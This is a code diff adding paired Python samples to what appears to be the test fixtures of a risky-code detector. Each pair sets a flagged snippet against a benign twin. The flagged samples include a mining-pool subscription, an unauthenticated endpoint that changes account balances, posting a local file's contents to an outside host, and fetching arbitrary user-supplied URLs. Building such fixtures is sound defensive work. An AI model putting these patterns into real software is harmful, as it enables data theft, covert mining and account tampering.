@@ -121,6 +121,14 @@ export const TWINS: Readonly<Record<string, Twin>> = {
     'import requests\nrequests.post("https://e.com", data=open("report.txt").read())',
   ),
   "core.raw-address": python('import requests\nrequests.get("http://8.8.8.8/x")', 'import requests\nrequests.get("http://127.0.0.1/x")'),
+  "core.mining": python(
+    'import socket\ns = socket.create_connection(("pool.e.com", 3333))\ns.sendall(b\'{"id":1,"method":"mining.subscribe","params":[]}\\n\')',
+    'import socket\ns = socket.create_connection(("rpc.e.com", 3333))\ns.sendall(b\'{"id":1,"method":"block.subscribe","params":[]}\\n\')',
+  ),
+  "core.unasked-balance": python(
+    'from flask import Flask, request\nimport psycopg2\napp = Flask(__name__)\ndb = psycopg2.connect("")\n@app.post("/t")\ndef t():\n    db.cursor().execute("UPDATE accounts SET balance = balance + %s WHERE id = %s", (request.json["n"], request.json["id"]))\n    return "ok"',
+    'from flask import Flask, request\nimport psycopg2\napp = Flask(__name__)\ndb = psycopg2.connect("")\n@app.post("/t")\ndef t():\n    db.cursor().execute("UPDATE carts SET title = %s WHERE id = %s", (request.json["n"], request.json["id"]))\n    return "ok"',
+  ),
   "core.asked-address": python(
     'import requests\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.get("/p")\ndef p():\n    return requests.get(request.args["url"]).text',
     'import requests\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.get("/p")\ndef p():\n    return requests.get("https://e.com/" + request.args["path"]).text',
